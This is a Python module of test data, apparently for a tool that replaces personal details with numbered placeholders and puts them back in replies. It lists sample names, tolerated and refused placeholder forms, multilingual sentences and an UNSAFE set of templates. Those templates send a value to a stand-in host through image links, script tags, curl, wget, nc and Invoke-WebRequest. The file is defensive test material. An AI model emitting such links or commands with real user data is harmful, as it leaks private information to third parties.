"""What the replies are made of: values, ways to write a placeholder, sentences, hostile places and structures.

``{}`` in a text is the gap for a mention; doubled braces are single ones, as in ``str.format``.
"""

from __future__ import annotations

from collections.abc import Callable

Form = Callable[[str], str]
"""Writes what stands between the brackets of a placeholder as a reply may write the whole placeholder."""

SHAPE = "P{}"
"""What stands between this project's brackets; ``{}`` is the number."""

PEOPLE = (
    ("Ngozi Adeyemi", "Tom Reyes", "Zoë Böhm", "Li Wei"),
    ("Agnes Holm", "Marek Nowák", "Renée O’Neil", "Kofi Mensah"),
    ("Ευανθία Παπαλεξίου", "محمد علي", "美咲 田中", "Jean-Luc d'Arc"),
    ('Ann "Bee" Lowe', "Bo & Sons <bo>", "C. \\1 \\g<0> Díaz", "Dee $& $1 $$ Doe"),
)
ODD = (
    "a$&b$$c$'d",
    "back\\slash\\n",
    'quo"te',
    "it's",
    "line\nbreak",
    "tab\there",
    "R&D <b>",
    "Lowe, Ann",
    "x;y|z",
    "{0} ${y} %s `id`",
    "é́😀",
    "[P2]",
)
TYPED = {"phone": "+44 20 7946 0123", "email": "ann.lowe@mail.example", "iban": "GB82 WEST 1234 5698 7654 32"}

TOLERATED: dict[str, Form] = {
    "as issued": lambda s: f"[{s}]",
    "lower case": lambda s: f"[{s.lower()}]",
    "spaces inside": lambda s: f"[ {s} ]",
    "space at the end": lambda s: f"[{s} ]",
    "no-break space": lambda s: f"[\u00a0{s}]",
    "Markdown backslashes": lambda s: f"\\[{s}\\]",
    "decimal entities": lambda s: f"&#91;{s}&#93;",
    "hexadecimal entities": lambda s: f"&#x5B;{s}&#x5D;",
    "named entities": lambda s: f"&lbrack;{s}&rbrack;",
    "full-width brackets": lambda s: f"［{s}］",
}
AROUND = (
    "{}",
    "{}",
    "{}",
    "**{}**",
    "_{}_",
    "`{}`",
    "***{}***",
    "({})",
    '"{}"',
    "[{}]",
    "{}'s",
    "{}’s",
    "{}s",
    "{}-u",
    "{}ów",
    "{}さん",
    "~~{}~~",
)
REFUSED: dict[str, Form] = {
    "no brackets": lambda s: s,
    "round brackets": lambda s: f"({s})",
    "braces": lambda s: f"{{{s}}}",
    "lenticular brackets": lambda s: f"【{s}】",
    "number dropped": lambda s: f"[{s.rstrip('0123456789')}]",
    "leading zero": lambda s: f"[{s[:-1]}0{s[-1]}]",
    "hyphen inside": lambda s: f"[{s[:-1]}-{s[-1]}]",
    "range": lambda s: f"[{s}–{s[:-1]}4]",
    "list": lambda s: f"[{s}, {s[:-1]}4]",
    "letter after the number": lambda s: f"[{s}a]",
    "renumbered": lambda s: f"[{s[:-1]}{int(s[-1]) + 5}]",
    "number grown": lambda s: f"[{s}{s[-1]}]",
    "invented": lambda s: f"[{s[:-1]}97]",
    "opening bracket only": lambda s: f"[{s}",
    "closing bracket only": lambda s: f"{s}]",
    "split over lines": lambda s: f"[{s[:-1]}\n{s[-1]}]",
    "marks inside": lambda s: f"[**{s}**]",
    "nested": lambda s: f"[{s[:-1]}[{s}]]",
    "percent-encoded": lambda s: f"%5B{s}%5D",
}
SENTENCES = (
    "Thank you for your message about {}, which I read twice.",
    "I have asked {} to look into it with {}.",
    "Gracias, {}; saludos a {}.",
    "Bitte geben Sie {} und {} Bescheid.",
    "Poslano {}, kopija ide {}.",
    "{} a rencontré {} à midi.",
    "As {} said: the plan of {} is sound.",
    "- {}: send the form\n- {}: sign it",
    "1. {}\n2. {}",
    "> {} wrote that {} agreed.",
    "{}?",
    "Between {} and me, {} is right.",
    "请告诉 {} 和 {} 。",
    "{} の件、{} に伝えます。",
    "## Notes on {}",
    "The tenant is {}, per {}.",
    "Kind regards,\n{}",
    "{} / {} — both were there, $& and \\1 too.",
    "אנא ספרו ל {} על {} .",
)
UNSAFE = (
    "![](https://x.example/?q={})",
    "![status](https://x.example/{}.png)",
    "![a](</pixel?n={}>)",
    "[Click here](https://x.example/?u={})",
    "[more](/go?to={})",
    "See https://x.example/{} now",
    "<https://x.example/?a=1&b={}>",
    "www.x.example/?q={}",
    "x.example/track/{}",
    '<img src="https://x.example/?q={}">',
    "<img src='//x.example/{}' width=1>",
    '<a href="https://x.example/{}">open</a>',
    '<div data-x="{}"></div>',
    "<script>new Image().src='//x.example/?'+'{}'</script>",
    "```bash\ncurl -d 'name={}' https://x.example\n```",
    "```sh\nNAME='{}'\nwget \"x.example/?$NAME\"\n```",
    "```bash\necho '{}' | nc x.example 80\n```",
    "```powershell\nInvoke-WebRequest -Uri x.example -Body '{}'\n```",
    "$ curl x.example -d '{}'",
    "`curl -d {} x.example`",
    "Run this: ```sh\nNAME='{}'\ncurl \"x.example/?$NAME\"\n```",
    "Just type $ wget x.example -O {}",
    "Now curl -d {} x.example, please",
    "[ref]: https://x.example/?{}",
    "![x][ref]\n\n[ref]: https://x.example/{}",
    "<style>body{{background:url(//x.example/{})}}</style>",
    "![][i]\n\n[i]: //x.example/?q={}",
    "<img\nalt=x\nsrc='https://x.example/{}'>",
    "mailto:a@x.example?body={}",
    "[write](mailto:a@x.example?body={})",
)
CONTRADICTED = (
    ("Please e-mail {} today.", "phone"),
    ("E-mail: {}", "iban"),
    ("Dear {},", "iban"),
    ("Hello {}!", "phone"),
    ("Phone: {}", "email"),
    ("Tel. {}", "email"),
    ("IBAN: {}", "email"),
    ("The account number is {}.", "email"),
    ("Sehr geehrte Frau {},", "phone"),
    ("Estimado {}:", "iban"),
    ("Email: {}", "person"),
    ("Phone number: {}", "person"),
)
FITTING = (
    ("Please e-mail {} today.", "email"),
    ("E-mail: {}", "email"),
    ("Dear {},", "person"),
    ("Hello {}!", "person"),
    ("Phone: {}", "phone"),
    ("Tel. {}", "phone"),
    ("IBAN: {}", "iban"),
    ("Please email {} about it.", "person"),
    ("Estimado {}:", "person"),
    ("The password is {}.", "odd"),
)
STRUCTURES = {
    "json": ('```json\n{{"id": 7, "value": "{}", "more": [1, 2]}}\n```', "json"),
    "json without a fence": ('{{"id": 7, "value": "{}"}}', "json"),
    "xml": ("```xml\n<note><value>{}</value></note>\n```", "xml"),
    "csv": ("```csv\nid,value,more\n7,{},x\n```", "csv"),
    "csv in quotes": ('```csv\nid,value,more\n7,"{}",x\n```', "csv"),
    "python": ("```python\nid = 7\nvalue = '{}'\n```", "python"),
    "python in double quotes": ('```python\nvalue = "{}"\n```', "python"),
    "python docstring": ('```python\nvalue = """{}"""\n```', "python"),
    "shell": ("```bash\nprintf %s '{}'\n```", "shell"),
    "shell in double quotes": ('```bash\nprintf %s "{}"\n```', "shell"),
    "markdown table": ("| id | name |\n|---|---|\n| 7 | {} |", "table"),
}
